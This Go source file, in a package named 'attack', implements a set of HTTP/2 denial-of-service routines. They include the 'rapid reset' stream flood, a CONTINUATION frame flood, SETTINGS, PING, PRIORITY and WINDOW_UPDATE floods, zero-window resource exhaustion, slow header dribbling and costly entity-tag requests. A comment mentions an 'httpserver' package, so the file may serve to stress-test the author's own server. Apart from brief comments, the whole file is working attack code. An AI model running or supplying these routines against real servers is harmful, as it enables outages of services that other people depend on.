package attack

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// maxStreams is how many streams a connection opens at a time: the limit of
// package httpserver; most servers have 100 or more.
const maxStreams = 32

// An h2conn writes the frames of one connection.
type h2conn struct {
	*Conn
	*http2.Framer
	encoder *hpack.Encoder
	block   bytes.Buffer
	stream  uint32 // of the last request
}

// startHTTP2 writes the preface and a SETTINGS frame.
func (c *Conn) startHTTP2(settings ...http2.Setting) *h2conn {
	h := &h2conn{Conn: c, Framer: http2.NewFramer(c, c)}
	h.encoder = hpack.NewEncoder(&h.block)
	c.send(http2.ClientPreface)
	h.WriteSettings(settings...)
	return h
}

// encode returns a header block. Only the given fields enter the dynamic table,
// so that a repetition takes one byte or two.
func (h *h2conn) encode(method string, fields ...hpack.HeaderField) []byte {
	h.block.Reset()
	for _, f := range append([]hpack.HeaderField{
		{Name: ":method", Value: method, Sensitive: true},
		{Name: ":scheme", Value: "https"},
		{Name: ":authority", Value: "a", Sensitive: true},
		{Name: ":path", Value: h.target.Path, Sensitive: true},
	}, fields...) {
		h.encoder.WriteField(f)
	}
	return h.block.Bytes()
}

// request opens a stream with a request that has no body.
func (h *h2conn) request(method string, fields ...hpack.HeaderField) error {
	h.stream += 2
	id := h.stream - 1
	return h.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: h.encode(method, fields...), EndStream: true, EndHeaders: true})
}

func holdHTTP2(_ context.Context, c *Conn) {
	c.startHTTP2()
	c.readToEnd()
}

// closeWindow sends as many GETs as a connection may have, with headers that take
// four bytes each on the wire, and never opens a window for the responses.
func closeWindow(_ context.Context, c *Conn) {
	closeWindowWith(c)
}

// closeWindowForRanges asks for what fits into a buffer of most servers.
func closeWindowForRanges(_ context.Context, c *Conn) {
	closeWindowWith(c, hpack.HeaderField{Name: "range", Value: "bytes=0-4000"})
}

func closeWindowWith(c *Conn, fields ...hpack.HeaderField) {
	h := c.startHTTP2(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	large := hpack.HeaderField{Name: "x", Value: strings.Repeat("x", 4000)}
	for range maxStreams {
		if h.request("GET", append(fields, large, large, large, large)...) != nil {
			return
		}
	}
	c.readToEnd()
}

// sendBodies sends a body with each GET, as much as the server's window allows.
func sendBodies(_ context.Context, c *Conn) {
	h := c.startHTTP2(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	go c.readToEnd()
	h.stream += 2
	h.WriteHeaders(http2.HeadersFrameParam{StreamID: h.stream - 1, BlockFragment: h.encode("GET"), EndHeaders: true})
	for range 1 << 20 / smallestFrame {
		if h.WriteData(h.stream-1, false, make([]byte, smallestFrame)) != nil {
			return
		}
	}
	c.readToEnd()
}

// smallestFrame is the smallest limit of a frame that RFC 9113, section 4.2, allows.
const smallestFrame = 16 << 10

// allowLargeFrames allows the server to send the whole response in one frame.
func allowLargeFrames(ctx context.Context, c *Conn) {
	c.tcp.SetReadBuffer(4096)
	const window = 1 << 30
	h := c.startHTTP2(http2.Setting{ID: http2.SettingMaxFrameSize, Val: 1<<24 - 1}, http2.Setting{ID: http2.SettingInitialWindowSize, Val: window})
	h.WriteWindowUpdate(0, window)
	h.request("GET")
	<-ctx.Done()
}

// pinVersions returns what asks for a range of each version, without a window for
// it.
func pinVersions(bytes string) func(context.Context, *Conn) {
	return func(ctx context.Context, c *Conn) {
		h := c.startHTTP2(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		go c.readToEnd()
		for range maxStreams {
			if pause(ctx, writeInterval) != nil || h.request("GET", hpack.HeaderField{Name: "range", Value: bytes}) != nil {
				return
			}
		}
		<-ctx.Done()
	}
}

// dribbleFrame sends a HEADERS frame of 16 KiB, byte by byte.
func dribbleFrame(ctx context.Context, c *Conn) {
	c.startHTTP2()
	c.send("\x00\x40\x00\x01\x05\x00\x00\x00\x01")
	c.dribble(ctx, 'x')
}

func floodSettings(c *Conn) {
	c.startHTTP2()
	var frames bytes.Buffer
	f := http2.NewFramer(&frames, nil)
	for range 1000 {
		f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535})
	}
	c.flood(frames.Bytes())
}

func floodPing(c *Conn) {
	c.startHTTP2()
	var frames bytes.Buffer
	f := http2.NewFramer(&frames, nil)
	for range 1000 {
		f.WritePing(false, [8]byte{})
	}
	c.flood(frames.Bytes())
}

func floodPriority(c *Conn) {
	c.startHTTP2()
	go c.readToEnd()
	var frames bytes.Buffer
	f := http2.NewFramer(&frames, nil)
	for i := range uint32(1000) {
		f.WritePriority(2*i+1, http2.PriorityParam{StreamDep: 2*i + 3, Weight: 1})
	}
	c.flood(frames.Bytes())
}

// floodWindow opens the window of the connection by one byte at a time, and
// begins again before it is too large.
func floodWindow(c *Conn) {
	c.startHTTP2()
	go c.readToEnd()
	var frames bytes.Buffer
	f := http2.NewFramer(&frames, nil)
	for range 1000 {
		f.WriteWindowUpdate(0, 1)
	}
	c.flood(frames.Bytes())
}

// floodReset is the "rapid reset" of 2023.
func floodReset(c *Conn) {
	h := c.startHTTP2()
	go c.readToEnd()
	for h.request("GET") == nil && h.WriteRSTStream(h.stream-1, http2.ErrCodeCancel) == nil {
	}
}

func floodContinuation(c *Conn) {
	h := c.startHTTP2()
	go c.readToEnd()
	block := bytes.Clone(h.encode("GET"))
	h.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block, EndStream: true})
	var frames bytes.Buffer
	f := http2.NewFramer(&frames, nil)
	f.AllowIllegalWrites = true
	for range 1000 {
		f.WriteContinuation(1, false, nil)
	}
	c.flood(frames.Bytes())
}

// sendTags compares the state with thousands of entity tags. It sends the next
// requests when those before are answered.
func sendTags(c *Conn) {
	h := c.startHTTP2()
	var tags strings.Builder
	for i := 0; tags.Len() < 3990; i++ {
		fmt.Fprintf(&tags, "%q,", fmt.Sprint(i%10))
	}
	field := hpack.HeaderField{Name: "if-none-match", Value: strings.TrimSuffix(tags.String(), ",")}
	for {
		for range maxStreams / 2 {
			if h.request("HEAD", field, field, field) != nil {
				return
			}
		}
		if h.readResponses(maxStreams/2) != nil {
			return
		}
	}
}

// readResponses reads until so many streams have ended.
func (h *h2conn) readResponses(n int) error {
	h.SetReadDeadline(time.Now().Add(clientTimeout))
	for n > 0 {
		frame, err := h.ReadFrame()
		if err != nil {
			return err
		}
		switch f := frame.(type) {
		case *http2.HeadersFrame:
			if f.StreamEnded() {
				n--
			}
		case *http2.DataFrame:
			if f.StreamEnded() {
				n--
			}
		case *http2.RSTStreamFrame:
			n--
		case *http2.GoAwayFrame:
			return io.EOF
		}
	}
	return nil
}
